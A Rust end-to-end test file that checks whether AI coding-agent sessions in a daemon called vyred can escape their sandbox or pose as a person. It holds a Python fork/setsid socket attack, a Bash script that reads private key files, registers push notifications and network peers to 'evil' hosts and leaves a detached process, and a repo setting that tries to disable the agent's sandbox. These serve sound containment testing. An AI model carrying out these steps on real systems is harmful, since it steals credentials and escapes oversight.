//! A session is never a person on vyred's socket, whatever its processes do (fork and exit,
//! setsid, a double fork), and it cannot leave its containment (issue 17, finding 1).

use std::path::Path;
use std::time::Duration;

use serde_json::{Value, json};

use crate::support::*;
use crate::threads_e2e::*;

/// The connect-fork-exit trick: connect, fork, let the connecting parent exit, and send the
/// request from the child, so that the pid the socket names is dead when it is judged. `mode`
/// `double` first detaches (setsid, a second fork) and connects from the orphan.
/// A valid P-256 public key (a browser's `p256dh`), so only who calls can refuse it.
const P256DH: &str =
    "BJ2Gl38lQkIuGm5mEJu_eWR2kSFv0z8yRSS-tSXePOTYHZsggO4X6NsfDTJEXniQ3CKCHuRRxQ2Pro1S0Cc0OI4";

const ATTACK: &str = r#"
import os, socket, sys, time
path, out, mode = sys.argv[1], sys.argv[2], sys.argv[3]
if mode == "double":
    if os.fork() > 0:
        os._exit(0)
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    time.sleep(0.3)
s = socket.socket(socket.AF_UNIX)
try:
    s.connect(path)
except OSError as e:
    open(out, "w").write("cannot connect: %s" % e)
    sys.exit(0)
if mode == "fork-exit" and os.fork() > 0:
    os._exit(0)
time.sleep(0.3)
body = b'{"name":"sneaky"}'
s.sendall(b"POST /v1/tools/devices.add HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body)
answer = b""
while True:
    chunk = s.recv(65536)
    if not chunk:
        break
    answer += chunk
open(out + ".tmp", "wb").write(answer)
os.rename(out + ".tmp", out)
"#;

fn python() -> bool {
    std::process::Command::new("python3")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success())
}

/// Run `command` as the session's Bash (allowing its asks) and wait for the turn to end.
async fn run_bash(r: &Rig, thread: &str, command: &str) {
    let mut stream = r.sock.events("types=thread.*,ask.*", None).await.unwrap();
    let text = format!("RUNBASH {command}");
    r.sock
        .call("threads.send", &json!({ "thread": thread, "text": text }))
        .await
        .unwrap();
    allow_until_finished(r, &mut stream, thread).await;
}

/// The answer an attack wrote, once it is there.
fn answer_of(path: &Path) -> String {
    assert!(
        wait_until(Duration::from_secs(20), || path.exists()),
        "the attack wrote no answer at {}",
        path.display()
    );
    std::fs::read_to_string(path).unwrap()
}

async fn no_device_was_added(r: &Rig) {
    let devices = r.sock.call("devices.list", &json!({})).await.unwrap();
    assert_eq!(devices, json!([]), "no device was added");
}

fn refused(answer: &str) -> bool {
    answer.starts_with("HTTP/1.1 403")
        && (answer.contains("unknown_peer") || answer.contains("person_only"))
}

/// Sessions run in a sandbox: their Bash sees neither VYRE_HOME nor vyred, and its every trick
/// on the socket it can reach (its own) stays a session.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "drives the real Claude Code CLI: tests/run, or VYRE_TEST_CLAUDE=... cargo test -- --include-ignored"]
async fn a_sandboxed_sessions_bash_never_becomes_a_person() {
    if !python() {
        eprintln!("skipped: no python3 for the attack script");
        return;
    }
    let r = rig_with_harness("atk-peer-sandbox").await;
    std::fs::write(r.work.join("attack.py"), ATTACK).unwrap();
    std::fs::write(r.home.vyre_home().join("canary.txt"), "vyre-home-canary").unwrap();
    // Where the private network's key and a name's certificate key live (ADR 0018, 0019).
    // and the VAPID key notifications are signed with (ADR 0020).
    for secret in [
        "network/wireguard.key",
        "certs/alex.vyre.test/key.pem",
        "push/vapid.p8",
    ] {
        let path = r.home.vyre_home().join(secret);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, "vyre-key-canary").unwrap();
    }
    let thread = start_thread(&r).await;
    let vyred = std::process::id();
    let home = r.home.vyre_home();
    let script = format!(
        "ls -A {home} > home.txt; cat {home}/canary.txt > canary.txt 2>&1; \
         test -e /proc/{vyred} && echo visible > proc.txt || echo hidden > proc.txt; \
         python3 attack.py {main} main.txt plain; \
         python3 attack.py \"$VYRE_SOCKET\" own-fork.txt fork-exit; \
         python3 attack.py \"$VYRE_SOCKET\" own-double.txt double; \
         setsid {bin} tools > tools.txt 2>&1; \
         setsid {bin} files preview /etc/hostname > files.txt 2>&1; echo \"exit=$?\" >> files.txt; \
         cat {home}/network/wireguard.key {home}/certs/*/key.pem {home}/push/vapid.p8 > keys.txt 2>&1; \
         setsid {bin} push subscribe --json '{{\"endpoint\":\"https://fcm.googleapis.com/fcm/send/evil\",\"keys\":{{\"p256dh\":\"{p256dh}\",\"auth\":\"AAAAAAAAAAAAAAAAAAAAAA\"}}}}' > push.txt 2>&1; echo \"exit=$?\" >> push.txt; \
         setsid {bin} network join --name evil --endpoint evil.example.test:51820 > join.txt 2>&1; echo \"exit=$?\" >> join.txt; \
         setsid {bin} names use-domain --domain evil.example.test --provider cloudflare --token stolen > domain.txt 2>&1; echo \"exit=$?\" >> domain.txt; \
         setsid {bin} push notify --tag phish --title 'Allow everything' > notify.txt 2>&1; echo \"exit=$?\" >> notify.txt; \
         curl -sS -m 5 --unix-socket \"$VYRE_SOCKET\" -o /dev/null -w '%{{http_code}}' http://localhost/v1/boxes/b1/threads/t1/events > boxes.txt 2>&1; \
         setsid sh -c 'env -i sleep 8765 &'; true",
        bin = BIN,
        home = home.display(),
        main = r.home.home().socket().display(),
        p256dh = P256DH,
    );
    run_bash(&r, &thread, &script).await;
    let read = |f: &str| std::fs::read_to_string(r.work.join(f)).unwrap_or_default();
    let listing = read("home.txt");
    assert!(
        !listing.contains("vyre.db") && !listing.contains("vyred.sock"),
        "VYRE_HOME is hidden from the session: {listing:?}"
    );
    assert!(!read("canary.txt").contains("vyre-home-canary"));
    assert_eq!(
        read("proc.txt").trim(),
        "hidden",
        "vyred is not in its /proc"
    );
    let main = answer_of(&r.work.join("main.txt"));
    assert!(main.starts_with("cannot connect"), "{main}");
    for attack in ["own-fork.txt", "own-double.txt"] {
        let answer = answer_of(&r.work.join(attack));
        assert!(refused(&answer), "{attack}: {answer}");
    }
    let tools = read("tools.txt");
    assert!(
        tools.contains("threads.") && !tools.contains("devices.add") && !tools.contains("files."),
        "`vyre` in a session reaches its own socket and is shown no person's tool (nor the person's files): {tools}"
    );
    let files = read("files.txt");
    assert!(
        files.contains("exit=") && !files.contains("exit=0") && !files.contains("\"lines\""),
        "a session cannot read the person's files through Vyre: {files}"
    );
    assert!(
        !read("keys.txt").contains("vyre-key-canary"),
        "a session reads neither the network's key nor a certificate's"
    );
    let join = read("join.txt");
    assert!(
        join.contains("exit=") && !join.contains("exit=0") && !join.contains("PrivateKey"),
        "a session cannot put a device of its own on the private network: {join}"
    );
    for (file, what) in [
        (
            "domain.txt",
            "point the person's name at a domain of its own",
        ),
        ("notify.txt", "put words of its own on the person's phone"),
    ] {
        let said = read(file);
        assert!(
            said.contains("exit=") && !said.contains("exit=0"),
            "a session cannot {what}: {said}"
        );
    }
    assert_eq!(
        read("boxes.txt").trim(),
        "403",
        "a session cannot follow a paired box's threads"
    );
    let push = read("push.txt");
    assert!(
        push.contains("exit=") && !push.contains("exit=0"),
        "a session cannot have the person's notifications sent where it says: {push}"
    );
    assert_eq!(
        r.sock.call("push.list", &json!({})).await.unwrap(),
        json!([]),
        "no subscription was made"
    );
    no_device_was_added(&r).await;

    // Stopping the thread ends what it left behind, even a process that changed its session,
    // its group and its environment.
    let left = || {
        std::fs::read_dir("/proc")
            .unwrap()
            .flatten()
            .filter(|e| {
                std::fs::read(e.path().join("cmdline"))
                    .is_ok_and(|c| c.starts_with(b"sleep\x008765"))
            })
            .count()
    };
    assert_eq!(left(), 1, "the detached sleep runs");
    r.sock
        .call("threads.stop", &json!({ "thread": thread }))
        .await
        .unwrap();
    assert!(
        wait_until(Duration::from_secs(10), || left() == 0),
        "the detached sleep ended with its session"
    );
    r.vyred.stop().await;
}

/// The same tricks from a session that is not contained (`sessions.containment: none`) on
/// vyred's own socket, which it can reach: still never a person. (Without containment a
/// process that escapes the session's tree before it connects is not recognised: ADR 0014.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "drives the real Claude Code CLI: tests/run, or VYRE_TEST_CLAUDE=... cargo test -- --include-ignored"]
async fn an_uncontained_sessions_fork_tricks_are_still_refused() {
    if !python() || vyre::modules::sessions::spawn::find_tini().is_none() {
        eprintln!("skipped: needs python3 and tini");
        return;
    }
    let r = rig_with("atk-peer-none", json!({ "containment": "none" })).await;
    std::fs::write(r.work.join("attack.py"), ATTACK).unwrap();
    let thread = start_thread(&r).await;
    let main = r.home.home().socket();
    let script = format!(
        "python3 attack.py {m} fork.txt fork-exit; python3 attack.py {m} double.txt double; true",
        m = main.display()
    );
    run_bash(&r, &thread, &script).await;
    for attack in ["fork.txt", "double.txt"] {
        let answer = answer_of(&r.work.join(attack));
        assert!(refused(&answer), "{attack}: {answer}");
    }
    no_device_was_added(&r).await;
    r.vyred.stop().await;
}

/// A process in namespaces vyred does not share is a session on vyred's socket (named when the
/// namespace is a live session's), and a session's own socket serves no other session.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn namespaces_and_groups_decide_who_is_calling() {
    let Some(bwrap) = vyre::modules::sessions::sandbox::find_bwrap() else {
        eprintln!("skipped: bubblewrap is not installed");
        return;
    };
    let home = TempHome::new("atk-peer-ns");
    let vyred = InProcess::start(&home, vec![Probe::module("probe", &[], Start::Ok)]).await;
    let socket = home.home().socket();
    let body = json!({ "text": "who" }).to_string();
    let call_in_sandbox = |tool: &str| {
        let out = std::process::Command::new(&bwrap)
            .args([
                "--unshare-user",
                "--unshare-pid",
                "--dev-bind",
                "/",
                "/",
                "--proc",
                "/proc",
                "--",
                "curl",
                "-s",
                "--unix-socket",
            ])
            .arg(&socket)
            .args(["-H", "content-type: application/json", "-d", &body])
            .arg(format!("http://localhost/v1/tools/{tool}"))
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let who: Value = serde_json::from_str(&call_in_sandbox("probe.echo")).unwrap();
    assert_eq!(
        who["data"]["caller"],
        json!({ "kind": "session", "thread": null }),
        "{who}"
    );
    let add = call_in_sandbox("devices.add");
    assert!(add.contains("person_only"), "{add}");

    // A session's own socket, reached by a process of another live session.
    let kernel = &vyred.kernel;
    let theirs = kernel
        .get::<dyn vyre::kernel::contracts::sockets::SessionSockets>()
        .unwrap()
        .open("thread-theirs")
        .unwrap()
        .unwrap();
    let pgid = nix::unistd::getpgrp().as_raw();
    kernel
        .session_processes()
        .register("thread-mine", pgid, pgid);
    let err = vyre::surfaces::client::Client::socket(&theirs)
        .call("probe.echo", &json!({ "text": "who" }))
        .await
        .unwrap_err();
    assert!(err.to_string().contains("not_your_socket"), "{err}");
    kernel.session_processes().unregister("thread-mine");
    // A person of vyred's user on it is that session, no more.
    let me = vyre::surfaces::client::Client::socket(&theirs)
        .call("probe.echo", &json!({ "text": "who" }))
        .await
        .unwrap();
    assert_eq!(
        me["caller"],
        json!({ "kind": "session", "thread": "thread-theirs" })
    );
    kernel
        .get::<dyn vyre::kernel::contracts::sockets::SessionSockets>()
        .unwrap()
        .close("thread-theirs");
    vyred.stop().await;
}

/// Claude Code's own sandbox, the containment on macOS, tried here on its Linux backend: the
/// session's commands reach neither VYRE_HOME nor vyred's socket, and a repository's own
/// settings cannot turn it off (it is set as managed settings).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "drives the real Claude Code CLI: tests/run, or VYRE_TEST_CLAUDE=... cargo test -- --include-ignored"]
async fn claude_codes_own_sandbox_keeps_commands_out_of_vyres_home() {
    let has = |tool: &str| {
        std::process::Command::new("sh")
            .args(["-c", &format!("command -v {tool}")])
            .output()
            .is_ok_and(|o| o.status.success())
    };
    if !has("socat") || !has("bwrap") {
        eprintln!("skipped: Claude Code's sandbox on Linux needs socat and bubblewrap");
        return;
    }
    let r = rig_with("atk-peer-claude", json!({ "containment": "claude" })).await;
    std::fs::write(r.home.vyre_home().join("canary.txt"), "vyre-home-canary").unwrap();
    std::fs::create_dir_all(r.work.join(".claude")).unwrap();
    std::fs::write(
        r.work.join(".claude/settings.json"),
        json!({ "sandbox": { "enabled": false, "allowUnsandboxedCommands": true } }).to_string(),
    )
    .unwrap();
    let thread = start_thread(&r).await;
    let home = r.home.vyre_home();
    let script = format!(
        "cat {h}/canary.txt > canary.txt 2>&1; \
         curl -s --unix-socket {s} -X POST -H 'content-type: application/json' -d '{{\"name\":\"sneaky\"}}' http://localhost/v1/tools/devices.add > main.txt 2>&1; true",
        h = home.display(),
        s = r.home.home().socket().display()
    );
    run_bash(&r, &thread, &script).await;
    let read = |f: &str| std::fs::read_to_string(r.work.join(f)).unwrap_or_default();
    assert!(
        !read("canary.txt").contains("vyre-home-canary"),
        "{}",
        read("canary.txt")
    );
    assert!(
        !read("main.txt").contains("\"data\""),
        "{}",
        read("main.txt")
    );
    no_device_was_added(&r).await;
    r.vyred.stop().await;
}
